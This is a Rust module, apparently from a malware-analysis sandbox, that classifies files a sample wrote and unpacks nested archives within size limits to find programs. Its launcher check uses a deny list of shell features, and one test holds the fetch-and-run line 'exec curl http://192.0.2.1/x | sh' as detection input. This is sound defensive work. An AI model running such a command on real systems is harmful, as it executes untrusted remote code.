//! What the files hold that a sample wrote: of an archive what is in it, and in the archives within it.
//!
//! Costs a look at the first bytes of each file that changed, and at the members of archives as far as there
//! is room. What there was no room for is said.

use super::{
    fs::{Contents, FileChange},
    limits::{HELD_BYTES, HELD_DEPTH, HELD_GLANCE, HELD_SCANNED, HELD_UNPACKED},
    members::{Members, is_tar, members},
};

/// What a file holds, and the bytes that say so.
pub(super) struct Held {
    /// Nothing if it was not looked at.
    pub(super) contents: Option<Contents>,
    pub(super) parts: Vec<Vec<u8>>,
    /// Whether it was looked at, an archive to its end.
    pub(super) is_whole: bool,
}

/// What the files hold that the sample wrote.
pub(super) fn held(changes: &[FileChange]) -> Vec<Option<Held>> {
    let mut room = Room { looked: HELD_SCANNED, unpacked: HELD_UNPACKED };
    changes.iter().map(|change| of_file(change, &mut room)).collect()
}

/// Bytes that may still be looked at, and unpacked.
struct Room {
    looked: usize,
    unpacked: usize,
}

fn of_file(change: &FileChange, room: &mut Room) -> Option<Held> {
    let is_new = change.sha256.is_some() && change.sha256 != change.sha256_before;
    let head = change.head();
    if !is_new || head.is_empty() {
        return None;
    }
    let as_it_is = |contents, is_whole| Some(Held { contents, parts: vec![head.to_vec()], is_whole });
    let Some(left) = room.looked.checked_sub(head.len()) else {
        // However many files there are, the beginning of each is looked at.
        return as_it_is(kind(head.get(..HELD_GLANCE).unwrap_or(head)), false);
    };
    room.looked = left;
    let contents = Some(kind(head)?);
    if contents != Some(Contents::Archive) {
        return as_it_is(contents, true);
    }
    let mut programs = Vec::new();
    let is_kept = change.size_after.is_none_or(|size| size <= change.contents.len() as u64);
    // What says where the members of a zip are stands at its end.
    let is_whole = unpack(&change.contents, HELD_DEPTH, room, &mut programs) && is_kept;
    match programs.is_empty() {
        true => as_it_is(contents, is_whole),
        false => Some(Held { contents: Some(Contents::Program), parts: programs, is_whole }),
    }
}

/// What bytes are, as a file.
fn kind(head: &[u8]) -> Option<Contents> {
    if is_tar(head) {
        return Some(Contents::Archive);
    }
    let contents = Contents::of_file(head);
    if is_launcher(head) { contents.map(|_| Contents::Script) } else { contents }
}

/// Whether a script does no more than to start one program that is there, as installers put beside programs.
fn is_launcher(head: &[u8]) -> bool {
    let Ok(text) = std::str::from_utf8(head) else { return false };
    let mut lines = text.lines().map(str::trim).filter(|line| !line.is_empty());
    let is_first = lines.next().is_some_and(|line| line.starts_with("#!/"));
    let mut lines = lines.filter(|line| !line.starts_with('#'));
    let (Some(line), None) = (lines.next(), lines.next()) else { return false };
    const MORE: [&str; 14] =
        ["|", ";", "&", "`", "$(", "<", ">", "://", "base64", " -c", " -e", "/.", "/tmp/", "eval"];
    is_first && line.starts_with("exec ") && !MORE.iter().any(|more| line.contains(more))
}

/// Adds what runs in an archive, and in archives within it; whether all of it was looked at.
fn unpack(bytes: &[u8], depth: usize, room: &mut Room, programs: &mut Vec<Vec<u8>>) -> bool {
    let Members { parts, mut is_whole } = members(bytes, room.unpacked);
    room.unpacked -= parts.iter().map(Vec::len).sum::<usize>();
    for mut part in parts {
        let len = part.len().min(HELD_BYTES);
        let Some(left) = room.looked.checked_sub(len) else { return false };
        room.looked = left;
        match kind(&part[..len]) {
            Some(Contents::Program | Contents::Module | Contents::Command) => {
                part.truncate(HELD_BYTES);
                programs.push(part);
            }
            Some(Contents::Archive) if depth == 0 => is_whole = false,
            Some(Contents::Archive) => is_whole &= unpack(&part, depth - 1, room, programs),
            _ => {}
        }
    }
    is_whole
}

#[cfg(all(test, feature = "scan"))]
mod tests {
    use super::*;

    /// A zip with one member as it is.
    fn zip(member: &[u8], options: zip::write::SimpleFileOptions) -> Vec<u8> {
        use std::io::{Cursor, Write as _};
        let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
        out.start_file("a", options).unwrap();
        out.write_all(member).unwrap();
        out.finish().unwrap().into_inner()
    }

    fn stored() -> zip::write::SimpleFileOptions {
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored)
    }

    fn held_in(contents: Vec<u8>) -> Option<(Contents, bool)> {
        let sha256 = Some("new".to_owned());
        let change = FileChange { path: "/home/user/a".into(), sha256, contents, ..FileChange::default() };
        let held = held(&[change]).pop()??;
        Some((held.contents?, held.is_whole))
    }

    const PROGRAM: &[u8] = b"\x7fELF\x02\x01\x01\0and so on";

    #[test]
    fn a_program_is_found_in_archives_within_archives() {
        let mut bytes = PROGRAM.to_vec();
        for _ in 0..4 {
            bytes = zip(&bytes, stored());
            assert_eq!(held_in(bytes.clone()), Some((Contents::Program, true)));
        }
        for _ in 0..HELD_DEPTH {
            bytes = zip(&bytes, stored());
        }
        assert_eq!(held_in(bytes), Some((Contents::Archive, false)));
        let mut tar = vec![0; 512];
        tar[257..262].copy_from_slice(b"ustar");
        tar[124..136].copy_from_slice(format!("{:011o}\0", PROGRAM.len()).as_bytes());
        tar.extend_from_slice(PROGRAM);
        tar.resize(2048, 0);
        assert_eq!(held_in(tar), Some((Contents::Program, true)));
    }

    #[test]
    fn a_launcher_is_no_command() {
        let of = |line: &str| kind(format!("#!/bin/sh\n{line}\n").as_bytes());
        assert_eq!(of("exec node /home/user/app/app.js \"$@\""), Some(Contents::Script));
        for line in ["exec curl http://192.0.2.1/x | sh", "exec /tmp/a", "exec sh -c 'date'", "exec a\nrm b"]
        {
            assert_eq!(of(line), Some(Contents::Command), "{line}");
        }
    }

    #[test]
    fn what_cannot_be_unpacked_is_told() {
        assert_eq!(held_in(zip(b"words", stored())), Some((Contents::Archive, true)));
        let sealed = stored().with_aes_encryption(zip::AesMode::Aes256, "secret");
        assert_eq!(held_in(zip(PROGRAM, sealed)), Some((Contents::Archive, false)));
        for bytes in [&b"BZh91AY&SY and so on"[..], b"Rar!\x1a\x07\x01\0", b"\x1f\x8b\x08\0broken"] {
            assert_eq!(held_in(bytes.to_vec()), Some((Contents::Archive, false)));
        }
        assert_eq!(held_in(b"words".to_vec()), None);
    }

    #[test]
    fn what_there_is_no_room_for_is_told() {
        let full = vec![zip(&vec![b'a'; HELD_UNPACKED - 1], stored()), zip(PROGRAM, stored())];
        let change = |contents| FileChange { sha256: Some("new".into()), contents, ..FileChange::default() };
        let changes: Vec<_> = full.into_iter().map(change).collect();
        let said: Vec<_> = held(&changes).into_iter().flatten().map(|held| held.is_whole).collect();
        assert_eq!(said, [true, false]);
    }
}
